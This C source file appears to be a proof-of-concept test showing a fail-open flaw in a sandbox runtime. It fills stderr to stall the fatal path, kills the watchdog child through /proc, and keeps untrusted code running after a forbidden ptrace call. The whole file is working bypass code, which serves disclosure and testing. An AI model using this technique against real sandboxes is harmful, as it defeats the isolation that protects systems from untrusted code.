// Fail-open: a violation's fatal path parks the dying thread in write() to a
// full fd 2 and relies on a forked watchdog process to SIGKILL the process
// within 250 ms. The watchdog is an ordinary uid-0 child: another untrusted
// thread kills it, and the process keeps running untrusted code forever.
#define _GNU_SOURCE
#include "common.h"
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <sys/syscall.h>
#include <time.h>

static volatile int go;
static pid_t mainpid;
static int rd;

static void* killer(void* arg) {
  (void)arg;
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/task/%d/children", mainpid, mainpid);
  while (!go) {}
  for (int iter = 0; iter < 2000000; iter++) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) { if (iter == 0) perror("open children"); continue; }
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0) {
      buf[n] = 0;
      int pid = atoi(buf);
      if (pid > 0) {
        int rc = kill(pid, SIGKILL);
        dprintf(1, "killer: watchdog pid %d killed rc=%d\n", pid, rc);
        break;
      }
    }
  }
  struct timespec t0, t1;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  for (int s = 0; s < 5; s++) {
    sleep(1);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    dprintf(1, "killer: process still running untrusted code %ld ms after the violation\n",
            (long)((t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000));
  }
  // drain the pipe: the runtime's violation message is behind the filler
  { char b[70000]; long got = 0; fcntl(rd, F_SETFL, O_NONBLOCK);
    for (int k = 0; k < 3; k++) { for (;;) { ssize_t n = read(rd, b + got, sizeof b - 1 - got); if (n <= 0) break; got += n; } usleep(200000); }
    b[got] = 0; char* m = strstr(b, "cordon:"); dprintf(1, "killer: fd 2 held: %s", m ? m : "(no message)\n"); }
  dprintf(1, "killer: exiting cleanly with status 0 (not 70)\n");
  _exit(0);
}

int main(void) {
  setup(1);
  mainpid = getpid();
  int p[2];
  if (pipe(p) != 0) return 1;
  rd = p[0];
  dup2(p[1], 2);
  fcntl(2, F_SETFL, O_NONBLOCK);
  char junk[4096];
  memset(junk, 'x', sizeof junk);
  long filled = 0;
  for (;;) { ssize_t n = write(2, junk, sizeof junk); if (n <= 0) break; filled += n; }
  // fill the last bytes
  for (;;) { ssize_t n = write(2, junk, 1); if (n <= 0) break; filled += n; }
  fcntl(2, F_SETFL, 0);
  printf("fd 2 is a full pipe (%ld bytes)\n", filled);
  fflush(stdout);
  pthread_t t;
  pthread_create(&t, 0, killer, 0);
  usleep(100000);
  go = 1;
  // The violation: a forbidden system call on the main thread.
  syscall(SYS_ptrace, 0, 0, 0, 0);
  printf("main: ptrace returned?!\n");
  return 3;
}
